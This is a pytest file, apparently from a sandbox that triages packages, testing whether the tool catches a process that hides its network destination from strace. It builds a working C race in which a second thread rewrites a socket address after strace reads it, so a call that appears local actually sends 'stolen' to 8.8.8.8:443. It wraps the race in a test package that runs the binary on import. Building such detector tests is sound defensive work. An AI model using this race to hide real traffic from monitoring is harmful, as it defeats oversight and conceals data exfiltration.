"""A second thread changes what a call reads, between strace's look at it and the kernel's own.

strace reads the memory of the one who calls, which faults the page in: the thread sees the moment
by /proc/self/pagemap. What the kernel did must be told, whatever strace was shown.
"""

import shutil
import subprocess

import pytest
from conftest import Triage
from hostile import last_json
from standins import Index

TRIES = 1000
# Arguments: what is called ("connect", "sendto"), the shown family ("unix", "inet"). It prints how
# often the kernel found no route, and so had the far address before it.
SOURCE = r"""
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static char *shown, *written;
static volatile int armed, ended;
static int pagemap, by_unix, is_send;

static void write_address(int far) {
    struct sockaddr_un path = {.sun_family = AF_UNIX};
    struct sockaddr_in host = {.sin_family = AF_INET, .sin_port = htons(far ? 443 : 53)};
    strcpy(path.sun_path, "/var/run/nscd/socket");
    inet_aton(far ? "8.8.8.8" : "127.0.0.1", &host.sin_addr);
    if (far || !by_unix) memcpy(written, &host, sizeof host);
    else memcpy(written, &path, sizeof path);
}

static int was_read(void) {
    uint64_t entry = 0;
    pread(pagemap, &entry, 8, (uintptr_t)shown / 4096 * 8);
    return entry >> 63;
}

static void *change(void *unused) {
    while (!ended) {
        if (!armed) continue;
        while (armed && !was_read());
        write_address(1);
        armed = 0;
    }
    return unused;
}

int main(int count, char **words) {
    is_send = !strcmp(words[1], "sendto");
    by_unix = !strcmp(words[2], "unix");
    pagemap = open("/proc/self/pagemap", O_RDONLY);
    int memory = memfd_create("x", 0), far = 0;
    ftruncate(memory, 4096);
    shown = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    written = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    pthread_t thread;
    pthread_create(&thread, 0, change, 0);
    for (int n = 0; n < TRIES; n++) {
        write_address(0);
        int s = socket(AF_INET, is_send ? SOCK_DGRAM : SOCK_STREAM, 0);
        int length = by_unix ? sizeof(struct sockaddr_un) : sizeof(struct sockaddr_in);
        madvise(shown, 4096, MADV_DONTNEED);
        armed = 1;
        int result = is_send ? sendto(s, "stolen", 6, 0, (void *)shown, length)
                             : connect(s, (void *)shown, length);
        far += result < 0 && errno == ENETUNREACH;
        armed = 0;
        close(s);
    }
    ended = 1;
    pthread_join(thread, 0);
    printf("{\"far\": %d}\n", far);
    return 0;
}
"""
MODULE = """
import os, shutil, subprocess
shutil.copy(os.path.join(os.path.dirname(__file__), "race.bin"), "/tmp/race")
os.chmod("/tmp/race", 0o755)
done = subprocess.run(["/tmp/race", {call!r}, {shown!r}], capture_output=True, text=True)
print(done.stdout)
"""


@pytest.fixture(scope="module")
def race(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The compiled racer."""
    compiler = shutil.which("cc")
    if not compiler:
        pytest.skip("there is no C compiler here")
    folder = tmp_path_factory.mktemp("race")
    (folder / "race.c").write_text(SOURCE.replace("TRIES", str(TRIES)))
    argv = [compiler, "-O1", "-w", "-pthread", "-o", str(folder / "race"), str(folder / "race.c")]
    subprocess.run(argv, check=True)
    return (folder / "race").read_bytes()


@pytest.mark.parametrize("call", ["connect", "sendto"])
@pytest.mark.parametrize("shown", ["unix", "inet"])
def test_what_the_kernel_did_is_told_whatever_strace_was_shown(
    triage: Triage, index: Index, race: bytes, call: str, shown: str
) -> None:
    module = MODULE.format(call=call, shown=shown)
    index.add_wheel("racer", "1.0", {"racer.py": module, "race.bin": race})
    _, report, _ = triage("racer", "--mode", "import", DECOY_INTERNET="false")
    assert report["outcome"] == "ok", report["reason"]
    far = last_json(report)["far"]
    if not far:
        pytest.skip("the race was never won here")
    # Where strace saw the far address it is told; where it saw the near one, that it can't be.
    told = {item["target"] for item in report["network"]}
    lies = [item for item in report["findings"] if item["rule"] == "evidence.tamper"]
    assert "8.8.8.8:443" in told or lies, report["findings"]
    assert {item["severity"] for item in lies} <= {"high", "medium"}
    assert any("shows the trace another call" in item["title"] for item in lies), report["findings"]
    assert report["verdict"] == "high"
